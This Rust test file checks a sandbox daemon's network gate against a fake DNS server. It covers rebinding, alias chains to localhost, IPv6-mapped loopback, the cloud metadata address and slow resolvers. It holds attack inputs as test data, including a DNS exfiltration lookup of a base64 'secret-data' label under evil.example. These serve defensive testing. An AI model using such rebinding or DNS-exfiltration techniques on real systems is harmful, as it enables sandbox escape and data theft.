//! Names whose addresses change, and what name servers get to hear. The daemon is started with a name
//! server of the test's own, which only root can do; the rules themselves are tested in the gate's crate.

use std::collections::HashMap;
use std::net::{Ipv6Addr, UdpSocket};
use std::sync::atomic::{AtomicU8, Ordering};
use std::sync::{Arc, Mutex};
use std::thread;

use serde_json::{Value, json};

use crate::harness::{Missing, TestDaemon, needs_root, per_connection, require, until};
use crate::servers::{NAMES, Server, allow, needs, python};

/// For each name its answers, one after the other.
type Answers = Arc<Mutex<HashMap<String, Vec<Vec<[u8; 4]>>>>>;

/// For each name addresses of IPv6, and other names it stands for.
#[derive(Debug, Default)]
struct More {
    six: HashMap<String, Vec<[u8; 16]>>,
    aliases: HashMap<String, String>,
}

/// A name server that answers for some names, each time with the next of its answers, and never for others.
struct NameServer {
    address: String,
    answers: Answers,
    more: Arc<Mutex<More>>,
    asked: Arc<Mutex<Vec<String>>>,
}

impl NameServer {
    /// On an address of its own of this machine's loopback.
    fn start() -> Option<Self> {
        static STARTED: AtomicU8 = AtomicU8::new(0);
        let (own, turn) = (std::process::id().to_be_bytes(), STARTED.fetch_add(1, Ordering::Relaxed));
        let address =
            format!("127.{}.{}.{}", 100 + 50 * (turn % 2) + own[1] % 50, own[2], own[3].clamp(1, 254));
        let socket = UdpSocket::bind((address.as_str(), 53)).ok()?;
        let answers = Answers::default();
        let asked: Arc<Mutex<Vec<String>>> = Arc::default();
        let more: Arc<Mutex<More>> = Arc::default();
        let (known, told, others) = (Arc::clone(&answers), Arc::clone(&asked), Arc::clone(&more));
        thread::spawn(move || {
            let mut packet = [0; 1500];
            while let Ok((length, from)) = socket.recv_from(&mut packet) {
                let Some((name, end)) = question(&packet[..length]) else { continue };
                let wants_four = packet[end - 3] == 1;
                told.lock().unwrap().push(name.clone());
                // Of a name that stands for another, the whole chain is told, and then the addresses.
                let mut chain = vec![name];
                let others = others.lock().unwrap();
                while let Some(next) = others.aliases.get(&chain[chain.len() - 1]) {
                    chain.push(next.clone());
                }
                let last = &chain[chain.len() - 1];
                let six = others.six.get(last).cloned().unwrap_or_default();
                let four = {
                    let mut known = known.lock().unwrap();
                    match known.get_mut(last) {
                        None if six.is_empty() => continue,
                        None => Vec::new(),
                        Some(answers) if wants_four && answers.len() > 1 => answers.remove(0),
                        Some(answers) => answers[0].clone(),
                    }
                };
                let addresses: Vec<Vec<u8>> = match wants_four {
                    true => four.iter().map(|address| address.to_vec()).collect(),
                    false => six.iter().map(|address| address.to_vec()).collect(),
                };
                socket.send_to(&answer(&packet[..end], &chain[1..], &addresses), from).ok();
            }
        });
        Some(Self { address, answers, more, asked })
    }

    fn answer(&self, name: &str, answers: &[&[[u8; 4]]]) {
        let answers = answers.iter().map(|one| one.to_vec()).collect();
        self.answers.lock().unwrap().insert(name.to_owned(), answers);
    }

    fn answer_six(&self, name: &str, address: &str) {
        let address: Ipv6Addr = address.parse().unwrap();
        self.more.lock().unwrap().six.entry(name.to_owned()).or_default().push(address.octets());
    }

    fn alias(&self, name: &str, of: &str) {
        self.more.lock().unwrap().aliases.insert(name.to_owned(), of.to_owned());
    }

    fn asked(&self, name: &str) -> usize {
        self.asked.lock().unwrap().iter().filter(|one| one.contains(name)).count()
    }
}

/// The name of a question, and where the question ends.
fn question(packet: &[u8]) -> Option<(String, usize)> {
    let mut labels = Vec::new();
    let mut at = 12;
    loop {
        let length = usize::from(*packet.get(at)?);
        at += 1;
        if length == 0 {
            return Some((labels.join("."), at + 4));
        }
        labels.push(String::from_utf8_lossy(packet.get(at..at + length)?).to_ascii_lowercase());
        at += length;
    }
}

/// An answer that nobody is to remember: aliases one after the other, and addresses of the last.
fn answer(question: &[u8], aliases: &[String], addresses: &[Vec<u8>]) -> Vec<u8> {
    let mut packet = question.to_vec();
    packet[2..12].copy_from_slice(&[0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0]);
    packet[7] = u8::try_from(aliases.len() + addresses.len()).unwrap();
    // A name is written once and pointed to afterwards.
    let mut owner: u16 = 0xc00c;
    let record = |packet: &mut Vec<u8>, owner: u16, kind: u8, data: &[u8]| {
        packet.extend(owner.to_be_bytes());
        packet.extend([0, kind, 0, 1, 0, 0, 0, 0]);
        packet.extend(u16::try_from(data.len()).unwrap().to_be_bytes());
        packet.extend(data);
    };
    for alias in aliases {
        let mut name: Vec<u8> = Vec::new();
        for label in alias.split('.') {
            name.push(u8::try_from(label.len()).unwrap());
            name.extend(label.as_bytes());
        }
        name.push(0);
        record(&mut packet, owner, 5, &name);
        owner = 0xc000 + u16::try_from(packet.len() - name.len()).unwrap();
    }
    for address in addresses {
        record(&mut packet, owner, if address.len() == 4 { 1 } else { 28 }, address);
    }
    packet
}

/// A name server of the test, and a daemon that asks it, which only root can arrange.
fn ground() -> Result<(NameServer, TestDaemon), Missing> {
    needs_root("give a daemon a name server of its own")?;
    let names = NameServer::start().unwrap();
    let mut daemon = TestDaemon::start_configured(NAMES, &[]);
    let settings = daemon.home().write("resolv.conf", &format!("nameserver {}\n", names.address));
    let switch = daemon.home().write("nsswitch.conf", "hosts: files dns\n");
    daemon.terminate();
    daemon.launch_by(&format!(
        "exec unshare --mount --propagation private -- sh -c 'mount --bind {} /etc/resolv.conf && mount --bind {} /etc/nsswitch.conf && exec \"$@\"' sh \"$@\"",
        settings.display(),
        switch.display()
    ));
    needs(&daemon, "python3")?;
    Ok((names, daemon))
}

/// Connects to each of several names in turn and says what was heard.
const REACH: &str = r#"
import json, socket, sys
heard = []
for name in sys.argv[2:]:
    try: heard.append(socket.create_connection((name, int(sys.argv[1])), 60).recv(64).decode())
    except OSError as error: heard.append(type(error).__name__)
print(json.dumps(heard))"#;

per_connection!(an_address_is_asked_for_once_checked_and_dialed_and_a_name_cannot_change_it);

fn an_address_is_asked_for_once_checked_and_dialed_and_a_name_cannot_change_it() {
    let (names, daemon) = require!(ground());
    let inside = Server::saying("127.0.0.1:0", "inside");
    let port = inside.port;
    let _outside = Server::saying(&format!("127.0.0.2:{port}"), "outside");
    let (well, evil) = ([127, 0, 0, 2], [127, 0, 0, 1]);
    names.answer("rebind.example", &[&[well], &[evil]]);
    names.answer("mixed.example", &[&[well, evil]]);
    names.answer("steady.example", &[&[well]]);
    let granted = ["rebind", "mixed", "steady", "slow"].map(|name| format!("{name}.example:{port}"));
    allow(&daemon, "box", &granted);
    allow(&daemon, "box", &[format!("127.0.0.2:{port}")]);
    let reach = |names: &[&str]| {
        let mut arguments = vec![port.to_string()];
        arguments.extend(names.iter().map(|name| format!("{name}.example")));
        let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
        python(&daemon, "box", REACH, &arguments)
    };
    // The first answer is good, and dialed; the second one is checked like the first.
    let heard = reach(&["rebind", "rebind", "rebind", "mixed", "steady"]);
    let expected =
        json!(["outside", "ConnectionResetError", "ConnectionResetError", "ConnectionResetError", "outside"]);
    let denied = |answer: &Value| answer.as_str().unwrap().is_empty() || answer == "ConnectionResetError";
    for (answer, expected) in heard.as_array().unwrap().iter().zip(expected.as_array().unwrap()) {
        assert!(answer == expected || (denied(answer) && denied(expected)), "{heard}");
    }
    assert_eq!(inside.heard().len(), 1, "only its own words: nobody connected");
    // Once for each kind of address and connection: what was checked is not asked for again.
    assert_eq!(names.asked("rebind.example"), 6);
    let net = daemon.get("/v1/sandboxes/box/net").to_string();
    assert!(net.contains("forbidden_address"), "{net}");
    // Looking a granted name up inside asks nobody outside, and one that is not granted never does.
    let before = names.asked("");
    daemon.shell("box", "getent hosts steady.example; getent hosts c2VjcmV0LWRhdGE.steady.example || true");
    daemon.shell("box", "getent hosts c2VjcmV0LWRhdGE.evil.example || true; getent hosts c2VjcmV0 || true");
    assert_eq!(names.asked(""), before, "{:?}", names.asked.lock());
    // Where the address is granted too, the same name leads there.
    allow(&daemon, "box", &[format!("127.0.0.1:{port}")]);
    assert_eq!(reach(&["rebind"]), json!(["inside"]));
}

per_connection!(names_whose_servers_are_slow_hold_up_only_the_sandbox_that_asks);

fn names_whose_servers_are_slow_hold_up_only_the_sandbox_that_asks() {
    let (names, daemon) = require!(ground());
    let server = Server::saying("127.0.0.1:0", "well");
    let port = server.port;
    names.answer("steady.example", &[&[[127, 0, 0, 1]]]);
    allow(&daemon, "slow", &[format!("*.slow.example:{port}")]);
    allow(&daemon, "quick", &[format!("steady.example:{port}"), format!("127.0.0.1:{port}")]);
    // Each of these waits for an answer that never comes.
    let hold = format!(
        "import socket, time\nheld = []\n\
         for number in range(200):\n\
         \u{20} stream = socket.socket(); stream.setblocking(False); held.append(stream)\n\
         \u{20} stream.connect_ex((socket.gethostbyname(f'n{{number}}.slow.example'), {port}))\n\
         open('held', 'w'); time.sleep(600)"
    );
    let job = daemon.exec("slow", json!({ "argv": ["python3", "-c", hold], "wait": "0s" }));
    until("they wait", || daemon.shell("slow", "ls").contains("held") && names.asked("slow.example") >= 8);
    for _ in 0..3 {
        let heard = python(&daemon, "quick", REACH, &[&port.to_string(), "steady.example"]);
        assert_eq!(heard, json!(["well"]));
    }
    daemon.post(&format!("/v1/runs/{}/kill", job["run_id"].as_str().unwrap()), json!({}));
}

per_connection!(no_answer_of_a_name_server_leads_a_granted_name_inside);

fn no_answer_of_a_name_server_leads_a_granted_name_inside() {
    let (names, daemon) = require!(ground());
    let inside = Server::saying("127.0.0.1:0", "inside");
    let port = inside.port;
    let _outside = Server::saying(&format!("127.0.0.2:{port}"), "outside");
    let (well, evil) = ([127, 0, 0, 2], [127, 0, 0, 1]);
    // Names, and what the programs behind them hear.
    let table = [
        ("plain", "outside"),
        ("chained", "outside"),
        ("alias-inside", ""),
        ("alias-of-localhost", ""),
        ("alias-flip", "outside"),
        ("alias-flip", ""),
        ("six-inside", ""),
        ("six-only", ""),
        ("six-mapped", ""),
        ("six-translated", ""),
        ("six-tunnel", ""),
        ("metadata", ""),
        ("link-local", ""),
        ("unspecified", ""),
        ("broadcast", ""),
        ("plain", "outside"),
    ];
    names.answer("plain.example", &[&[well]]);
    names.alias("chained.example", "one.example.net");
    names.alias("one.example.net", "two.example.org");
    names.alias("two.example.org", "plain.example");
    names.alias("alias-inside.example", "inside.example.net");
    names.answer("inside.example.net", &[&[evil]]);
    names.alias("alias-of-localhost.example", "localhost");
    names.answer("localhost", &[&[evil]]);
    names.alias("alias-flip.example", "flip.example.net");
    names.answer("flip.example.net", &[&[well], &[evil]]);
    for (name, six) in [
        ("six-inside", "::1"),
        ("six-only", "::1"),
        ("six-mapped", "::ffff:127.0.0.1"),
        ("six-translated", "64:ff9b::a9fe:a9fe"),
        ("six-tunnel", "2002:7f00:1::"),
    ] {
        names.answer_six(&format!("{name}.example"), six);
    }
    names.answer("six-inside.example", &[&[well]]);
    names.answer("metadata.example", &[&[[169, 254, 169, 254]]]);
    names.answer("link-local.example", &[&[[169, 254, 1, 1]]]);
    names.answer("unspecified.example", &[&[[0, 0, 0, 0]]]);
    names.answer("broadcast.example", &[&[[255, 255, 255, 255]]]);
    allow(
        &daemon,
        "box",
        &[format!("*.example.com:{port}"), format!("127.0.0.2:{port}"), format!("160.0.0.0/4:{port}")],
    );
    for (name, _) in table {
        allow(&daemon, "box", &[format!("{name}.example:{port}")]);
    }
    let hosts: Vec<String> = table.iter().map(|(name, _)| format!("{name}.example")).collect();
    let mut arguments = vec![port.to_string()];
    arguments.extend(hosts);
    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
    let heard = python(&daemon, "box", REACH, &arguments);
    for ((name, expected), answer) in table.iter().zip(heard.as_array().unwrap()) {
        let reached = answer.as_str().unwrap();
        let denied = reached.is_empty() || reached.ends_with("Error");
        assert!(if expected.is_empty() { denied } else { reached == *expected }, "{name}: {heard}");
    }
    assert_eq!(inside.heard().len(), 1, "only its own words: nobody connected");
    let net = daemon.get("/v1/sandboxes/box/net").to_string();
    assert!(net.contains("forbidden_address") && net.contains("metadata_address"), "{net}");
}
